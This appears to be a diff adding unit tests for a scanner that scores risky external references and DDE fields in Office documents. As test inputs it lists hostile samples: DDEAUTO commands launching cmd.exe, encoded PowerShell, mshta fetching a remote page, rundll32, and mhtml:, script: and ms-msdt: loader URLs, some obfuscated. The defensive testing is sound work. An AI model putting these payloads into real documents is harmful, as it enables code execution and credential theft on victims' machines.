@@ -1,0 +1,94 @@
+import { describe, expect, it } from "vitest"
+import { referenceRoles } from "../../../../core/documents/Fact.ts"
+import { judgeReferences } from "../../../../core/documents/judge/JudgeReferences.ts"
+
+const reference = (role: typeof referenceRoles[number], target: string): string =>
+  judgeReferences([{ kind: "reference", role, target, where: "part" }])
+    .map(({ code, penalty }) => `${short[code]!}${penalty}`).join(" ")
+
+const short: Readonly<Record<string, string>> = {
+  REMOTE_TEMPLATE: "template ",
+  REMOTE_OBJECT: "object ",
+  REMOTE_CONTENT: "content ",
+  EXTERNAL_STREAM: "stream ",
+  CREDENTIAL_LEAK_PATH: "leak "
+}
+
+/** By where it leads: the web, a share out there, a share within, a file beside it, nowhere. */
+const row = (role: typeof referenceRoles[number]): ReadonlyArray<string> =>
+  ["https://a.example/b", "\\\\a.example\\b", "\\\\server\\b", "b.docx", ""].map((target) => reference(role, target))
+
+const part = ["object 45", "leak 60", "leak 16", "object 6", ""]
+const contents = ["content 8", "leak 60", "leak 16", "", ""]
+
+it("every role of a reference, by where it leads", () => {
+  expect(Object.fromEntries(referenceRoles.map((role) => [role, row(role)]))).toEqual({
+    template: ["template 55", "leak 60", "leak 10", "template 2", ""],
+    object: part,
+    frame: part,
+    subdocument: part,
+    control: part,
+    slide: part,
+    script: part,
+    include: ["content 25", "leak 60", "leak 16", "", ""],
+    image: contents,
+    data: ["content 16", "leak 10", "leak 10", "content 16", ""],
+    mailmerge: ["content 8", "leak 10", "leak 10", "", ""],
+    workbook: ["content 4", "leak 10", "leak 10", "content 4", ""],
+    stream: ["stream 40", "leak 60", "leak 60", "stream 40", ""],
+    media: contents,
+    other: ["content 4", "leak 60", "leak 16", "", ""]
+  })
+})
+
+describe("an object that is loaded", () => {
+  it.each([
+    ["https://a.example/b.docx", 45],
+    ["https://a.sharepoint.com/b.docx", 6],
+    ["https://d.docs.live.net/abc/b.xlsx", 6],
+    ["https://sharepoint.com.evil.example/b.docx", 45],
+    ["https://notsharepoint.com/b.docx", 45],
+    ["https://a.sharepoint.com/b.hta", 75],
+    ["https://a.sharepoint.com/b.docx!", 75],
+    ["https://a.example/b.html!", 75],
+    ["https://a.example/b.html! ", 75],
+    ["mhtml:https://a.example/b.html!x-usc:https://a.example/b.html", 75],
+    ["MHTML:https://a.example/b", 75],
+    ["%6dhtml:https://a.example/b", 75],
+    ["script:https://a.example/b.sct", 75],
+    ["ms-msdt:/id", 75],
+    ["https://a.example/b.sct?c", 75],
+    ["https://a.example/b?c=.sct", 45],
+    ["other:b", 45],
+    ["C:\\b.docx", 6],
+    ["C:\\b.exe", 45],
+    ["b.hta", 45],
+    ["folder.exe/b.docx", 6]
+  ])("from %s: %d", (target, penalty) => expect(reference("object", target)).toBe(`object ${penalty}`))
+})
+
+describe("a field that asks another program", () => {
+  const dde = (command: string) => judgeReferences([{ kind: "dde", command, where: "part" }])[0]!.penalty
+
+  it.each([
+    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
+    "DDE cmd \"/c calc\"",
+    "dde \"c\"\"md\" \"/c calc\"",
+    "DDEAUTO \"c^m^d\" /c",
+    "DDEAUTO PowerShell -e AAAA",
+    "DDEAUTO mshta http://a.example/",
+    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
+    "DDE rundll32 a,b",
+    "DDEAUTO a \"https://a.example/b\"",
+    "DDEAUTO a \\\\a.example\\b",
+    "DDEAUTO \"C:\\\\a\\\\tool.exe\" b"
+  ])("%s is a shell", (command) => expect(dde(command)).toBe(75))
+
+  it.each([
+    "DDEAUTO Excel Book1.xls Sheet1!R1C1",
+    "DDE Word document.doc bookmark",
+    "=Reuters|IDN!'EUR=,PRICE'",
+    "DDEAUTO cmdline topic item",
+    "DDE accmd topic item"
+  ])("%s is none", (command) => expect(dde(command)).toBe(35))
+})
